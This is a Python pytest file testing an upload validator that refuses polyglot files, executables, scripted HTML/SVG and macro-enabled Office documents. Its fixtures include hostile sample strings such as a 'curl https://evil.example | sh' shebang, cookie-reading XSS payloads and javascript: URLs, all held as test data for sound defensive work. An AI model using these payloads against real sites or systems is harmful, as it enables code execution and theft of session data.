"""Content sniffing that cannot be fooled: polyglots, executables, markup and macro-enabled Office files.

Each hostile file is checked the way the service checks it: ``check_upload`` on the head and,
for a ZIP-based name, ``inspect_file`` on the stored file (central directory and
``[Content_Types].xml``).
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from bot.domain import documents
from bot.domain.documents import UploadRefused, check_upload, inspect_file

PDF_BODY = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"
EXECUTABLES = {
    "pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 40,
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 40,
    "macho64": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 40,
    "macho32": b"\xce\xfa\xed\xfe\x07\x00\x00\x00" + b"\x00" * 40,
    "macho_be": b"\xfe\xed\xfa\xcf" + b"\x00" * 40,
    "macho_fat": b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 40,
    "shebang": b"#!/bin/sh\ncurl https://evil.example | sh\n",
    "shebang_env": b"#!/usr/bin/env python3\nimport os\n",
    "wasm": b"\x00asm\x01\x00\x00\x00",
    "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 40,
}
MARKUP = {
    "doctype": b"<!DOCTYPE html><html><body>",
    "doctype_lower_ws": b"\r\n  \t<!doctype html>\n<title>x</title>",
    "html": b"<html><script>fetch('/files')</script></html>",
    "html_upper_bom": b"\xef\xbb\xbf<HTML>\n<BODY>",
    "script": b"<script>alert(document.cookie)</script>",
    "iframe": b"<iframe src=https://evil.example></iframe>",
    "comment": b"<!-- saved from url=(0014)about:internet -->",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "xml": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "utf16_html": b"\xff\xfe" + "<html><script>x</script>".encode("utf-16-le"),
    "body": b"<body onload=alert(1)>",
    "p": b"<p>hoi</p>",
}


def with_pdf_after(prefix: bytes) -> bytes:
    """A PDF header within the first KB (readers accept that), after something else."""
    return prefix + b"\n" * 8 + PDF_BODY


HOSTILE_HEADS = [
    *[(f"{kind}.pdf", with_pdf_after(head)) for kind, head in EXECUTABLES.items()],
    *[(f"{kind}.pdf", with_pdf_after(head)) for kind, head in MARKUP.items()],
    *[(f"{kind}.txt", head) for kind, head in EXECUTABLES.items()],
    *[(f"{kind}.txt", head) for kind, head in MARKUP.items()],
    *[(f"{kind}.csv", head) for kind, head in MARKUP.items()],
    ("zip_first.pdf", with_pdf_after(b"PK\x03\x04\x14\x00\x00\x00")),
    ("ole_first.pdf", with_pdf_after(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
    ("png_first.pdf", with_pdf_after(b"\x89PNG\r\n\x1a\n")),
    ("script_in_junk.pdf", b"junk <script>alert(1)</script>" + PDF_BODY),
    ("shebang_in_junk.pdf", b"x\n#!/bin/sh\n" + PDF_BODY),
    ("pdf_too_late.pdf", b"x" * 1100 + PDF_BODY),
    ("scripted.txt", b"Beste Dia,\nZie bijlage.\n<img src=x onerror=alert(1)>\n"),
    ("js_url.txt", b"Klik hier: javascript:alert(document.domain)\n"),
    ("handler.csv", b"school;link\nRegenboog;<a href=x onclick=\"steal()\">x</a>\n"),
    ("data_url.txt", b"data:text/html;base64,PHNjcmlwdD4=\n"),
    ("svg_in_png.png", b"<svg onload=alert(1)>" + b"\x89PNG\r\n\x1a\n"),
    ("exe_then_png.png", EXECUTABLES["pe"] + b"\x89PNG\r\n\x1a\n"),
    ("html_jpeg.jpg", b"<html>" + b"\xff\xd8\xff\xe0"),
]


@pytest.mark.parametrize(("name", "head"), HOSTILE_HEADS, ids=[n for n, _ in HOSTILE_HEADS])
def test_hostile_heads_are_refused_whatever_else_they_hold(name, head):
    with pytest.raises(UploadRefused) as refused:
        check_upload(head, name)
    assert refused.value.reason_key == "upload.refused_mismatch"


@pytest.mark.parametrize(("name", "head"), [
    ("plain.pdf", PDF_BODY),
    ("junk_before.pdf", b"\r\n\r\n" + PDF_BODY),  # a mail gateway's leftovers; readers accept it
    ("bom_before.pdf", b"\xef\xbb\xbf" + PDF_BODY),
    ("notitie.txt", b"Onderwerp = de aanvraag; ontwerp = klaar\nOnderzoek <2027> en een pijl -> hier.\n"),
    ("lijst.csv", b"school;onderwerp=;on=\n<Regenboog>;1 < 2\n"),
])
def test_ordinary_files_still_pass(name, head):
    assert check_upload(head, name) in (documents.PDF, documents.TXT, documents.CSV)


def zip_file(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            kind = zipfile.ZIP_STORED if index == 0 and name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=kind)
    return buffer.getvalue()


WORD_TYPES = (b'<Types><Override PartName="/word/document.xml" ContentType="application/'
              b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
DOCM_TYPES = (b'<Types><Override PartName="/word/document.xml" '
              b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
XLSM_TYPES = b'<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
ODT_MIME = b"application/vnd.oasis.opendocument.text"

# The [Content_Types].xml entry goes last in some of these, so only the central directory shows it.
MACRO_FILES = [
    ("docm_renamed.docx", [("[Content_Types].xml", DOCM_TYPES), ("word/document.xml", b"<w/>"),
                           ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
    ("vba_only.docx", [("[Content_Types].xml", WORD_TYPES), ("word/document.xml", b"<w/>"),
                       ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
    ("content_types_only.docx", [("word/document.xml", b"<w/>"), ("[Content_Types].xml", DOCM_TYPES)]),
    ("xlsm_renamed.xlsx", [("xl/workbook.xml", b"<x/>"), ("xl/vbaProject.bin", b"\x00"),
                           ("[Content_Types].xml", XLSM_TYPES)]),
    ("pptm.pptx", [("[Content_Types].xml", WORD_TYPES.replace(b"word", b"ppt")), ("ppt/presentation.xml", b"<p/>"),
                   ("ppt/vbaProject.bin", b"\x00")]),
    ("basic.odt", [("mimetype", ODT_MIME), ("content.xml", b"<c/>"), ("Basic/Standard/Module1.xml", b"<m/>")]),
    ("scripts.odt", [("mimetype", ODT_MIME), ("content.xml", b"<c/>"), ("Scripts/python/x.py", b"import os")]),
]


@pytest.mark.parametrize(("name", "entries"), MACRO_FILES, ids=[n for n, _ in MACRO_FILES])
def test_macro_enabled_office_files_are_refused(name, entries, tmp_path: Path):
    path = tmp_path / "stored"
    path.write_bytes(zip_file(entries))
    with pytest.raises(UploadRefused) as refused:
        inspect_file(path, name)
    assert refused.value.reason_key == "upload.refused_macro"


def test_legacy_office_with_a_vba_storage_in_its_head_is_refused():
    head = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100 + "WordDocument".encode("utf-16-le") + b"\x00\x00"
            + "Macros".encode("utf-16-le") + b"\x00\x00")
    with pytest.raises(UploadRefused) as refused:
        check_upload(head, "oud.doc")
    assert refused.value.reason_key == "upload.refused_macro"


@pytest.mark.parametrize(("name", "entries", "expected"), [
    ("plan.docx", [("[Content_Types].xml", WORD_TYPES), ("word/document.xml", b"<w/>")], documents.DOCX),
    ("plan.odt", [("mimetype", ODT_MIME), ("content.xml", b"<c/>"), ("Pictures/1.png", b"\x89PNG")], documents.ODT),
])
def test_plain_office_files_still_pass(name, entries, expected, tmp_path: Path):
    path = tmp_path / "stored"
    path.write_bytes(zip_file(entries))
    assert inspect_file(path, name) == expected


def test_a_zip_must_start_at_offset_zero(tmp_path: Path):
    """A docx with something in front (a self-extracting archive, an EXE) is not a docx."""
    path = tmp_path / "stored"
    path.write_bytes(EXECUTABLES["pe"] + zip_file([("[Content_Types].xml", WORD_TYPES), ("word/document.xml", b"")]))
    with pytest.raises(UploadRefused):
        inspect_file(path, "plan.docx")
